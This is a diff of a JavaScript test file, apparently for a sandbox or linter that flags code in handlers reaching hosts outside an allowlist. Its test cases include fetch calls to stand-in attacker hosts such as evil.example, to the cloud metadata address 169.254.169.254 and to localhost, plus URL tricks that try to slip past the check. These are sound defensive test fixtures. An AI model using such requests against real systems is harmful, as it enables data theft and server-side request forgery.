@@ -54,8 +54,10 @@ describe('names that the sandbox does not have', () => {
     'return payload.process.env', 'return { process: 1, eval: 2, require: 3 }', 'const process = payload; return process.env',
     'const require = (name) => payload[name]; require("fs")', 'function eval_() {} eval_()', 'return payload.eval("x")',
     'for (const process of payload.all) process.run()', 'try {} catch (process) { process.message }',
-    '{ let process = 1; process }', 'if (payload) { var process = 1 } return process', 'return (function process() { return process })()',
-    'const { a: process, ...WebSocket } = payload; return [process, WebSocket]', 'return new (class WebSocket { x = WebSocket })()',
+    '{ let process = 1; process }', 'if (payload) { var process = 1 } return process',
+    'return (function process() { return process })()',
+    'const { a: process, ...WebSocket } = payload; return [process, WebSocket]',
+    'return new (class WebSocket { x = WebSocket })()',
     'const f = ([process = 1]) => process', 'class WebSocket {} new WebSocket()', 'new this.constructor(payload)',
   ])('%s is harmless', (body) => expect(inHandler(body)).toEqual([]));
 
@@ -72,14 +74,19 @@ describe('hosts', () => {
     'fetch(`https://api.shop.example/${payload.id}`)',
     "fetch('https://' + 'api.shop.example/orders')", "fetch(payload.base + 'https://' + 'api.shop.example')",
     "fetch('https://erp.example:8443/x')", 'fetch(`https://${payload.host}/x`)', 'fetch(`https://api.${payload.zone}`)',
-    "fetch(payload.scheme + '://' + payload.host)", "console.log('see https://docs.example.com')", "const a = 'https'; 'http://'",
+    "fetch(payload.scheme + '://' + payload.host)", "const a = 'https'; 'http://'", "'(see https://api.shop.example).'",
+    "'https://api.shop.example, https://a.cdn.example'", 'fetch(`${payload.proxy}?url=https://${payload.host}/x`)',
     "fetch('HTTPS://API.SHOP.EXAMPLE/')", "fetch('https://user:pw@api.shop.example/')",
   ])('%s is covered, or unknown', (body) => expect(inHandler(body, http)).toEqual([]));
 
   test.each([
-    "fetch('https://evil.example')", "fetch('https://shop.example')", "fetch('https://cdn.example')", "fetch('http://erp.example')",
-    "fetch('https://api.shop.example.evil.example/')", 'fetch(`https://evil.example/${payload.id}`)', "fetch('https://' + 'evil.example')",
+    "fetch('https://evil.example')", "fetch('https://shop.example')", "fetch('https://cdn.example')",
+    "fetch('http://erp.example')",
+    "fetch('https://api.shop.example.evil.example/')", 'fetch(`https://evil.example/${payload.id}`)',
+    "fetch('https://' + 'evil.example')",
     "fetch('http://169.254.169.254/latest')", "fetch('https://api.shop.example@evil.example/')", "fetch('http://[::1]:80/')",
+    "console.log('see https://docs.example.com')", "'https://api.shop.example/?next=https://evil.example/'",
+    'fetch(`${payload.proxy}?url=https://evil.example/x`)', "if (false) { const unused = 'GET https://evil.example/'; }",
     "fetch('ftp://api.shop.example')", "'wss://api.shop.example'", "fetch('  https://evil.example')",
   ])('%s is not', (body) => expect(inHandler(body, http)).toEqual(['2 host']));
 
